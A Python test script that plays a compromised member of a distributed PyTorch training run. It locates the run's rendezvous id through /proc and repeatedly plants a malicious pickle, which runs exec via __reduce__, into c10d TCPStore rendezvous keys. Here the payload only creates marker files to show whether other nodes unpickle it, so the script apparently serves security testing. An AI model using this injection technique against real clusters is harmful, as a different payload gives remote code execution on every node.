"""A compromised member of a run, for the cluster tests of issue 20: it plants a pickle in the live
rendezvous stores.

    python tests/rdzv_attacker.py MARKER_DIR HOST SECONDS GO_FILE ADDRESS:PORT...

Run inside host HOST's namespace. It learns the run's rendezvous id as a member would, from its own
host's torchrun command line (`--rdzv-id`), then, once GO_FILE exists, writes under
`torch.rendezvous.<id>` and the next generations' keys (`<id>-g1`, `<id>-g2`), in every listed
store it reaches, what torch's c10d backend stores there (base64) of a pickle whose `__reduce__`
creates a file in MARKER_DIR named after the host and process that unpickled it. It keeps writing
(honest agents would overwrite the state) until its own host has had no torchrun for 10 s, or
SECONDS pass, and prints one JSON line: the id and how many writes landed in each store.

A test starts it before the run and creates GO_FILE when the run trains: started only then, on a
loaded machine, its python and torch import took so long that a short run had ended before it
wrote (CI, 2026-12-05).
"""

from __future__ import annotations

import base64
import json
import os
import pickle
import sys
import time
from datetime import timedelta
from pathlib import Path

from torch.distributed import TCPStore

GENERATIONS = 3


class Planted:
    def __init__(self, marker_dir: str) -> None:
        self.marker_dir = marker_dir

    def __reduce__(self):  # unpickling it runs this: a file named after whoever unpickled it
        code = (f"import os; open(os.path.join({self.marker_dir!r}, 'ran-' + os.environ.get('MESHRUN_HOST', '?') "
                f"+ '-' + str(os.getpid())), 'w').close()")
        return (exec, (code,))


def rdzv_id_on(host: str) -> str | None:
    """The `--rdzv-id` of a torchrun on this host: its environment says MESHRUN_HOST=host and it
    lives in this process's network namespace. (The simulated hosts share one /proc, and the
    other test-bed slot's cluster has an h3 too, running its own tests meanwhile.)"""
    here = os.readlink("/proc/self/ns/net")
    for entry in filter(str.isdigit, os.listdir("/proc")):
        try:
            env = Path(f"/proc/{entry}/environ").read_bytes().split(b"\0")
            argv = Path(f"/proc/{entry}/cmdline").read_bytes().decode(errors="replace").split("\0")
            same_host = os.readlink(f"/proc/{entry}/ns/net") == here
        except OSError:
            continue
        if same_host and f"MESHRUN_HOST={host}".encode() in env and "--rdzv-id" in argv:
            return argv[argv.index("--rdzv-id") + 1]
    return None


def launch_id(rdzv_id: str) -> str:
    base, sep, gen = rdzv_id.rpartition("-g")
    return base if sep and gen.isdigit() else rdzv_id


def main() -> int:
    marker_dir, host, seconds, go = sys.argv[1], sys.argv[2], float(sys.argv[3]), Path(sys.argv[4])
    endpoints = sys.argv[5:]
    payload = base64.b64encode(pickle.dumps(Planted(marker_dir)))
    deadline = time.monotonic() + seconds
    while not go.exists() and time.monotonic() < deadline:
        time.sleep(0.05)
    while (found := rdzv_id_on(host)) is None and time.monotonic() < deadline:
        time.sleep(0.1)
    base = launch_id(found or "")
    keys = [f"torch.rendezvous.{base}" + (f"-g{g}" if g else "") for g in range(GENERATIONS)]
    landed = {endpoint: 0 for endpoint in endpoints}
    stores: dict[str, TCPStore] = {}
    last_seen = time.monotonic()
    while found and time.monotonic() < deadline and time.monotonic() - last_seen < 10:
        for endpoint in endpoints:
            address, port = endpoint.rsplit(":", 1)
            try:
                store = stores.get(endpoint) or TCPStore(address, int(port), is_master=False,
                                                         timeout=timedelta(seconds=2))
                stores[endpoint] = store
                for key in keys:
                    store.set(key, payload)
                landed[endpoint] += 1
            except Exception:  # noqa: BLE001 - not up yet, or gone: try again next round
                stores.pop(endpoint, None)
        if rdzv_id_on(host) is not None:
            last_seen = time.monotonic()
        time.sleep(0.3)
    print(json.dumps({"rdzv_id": base, "landed": landed}), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
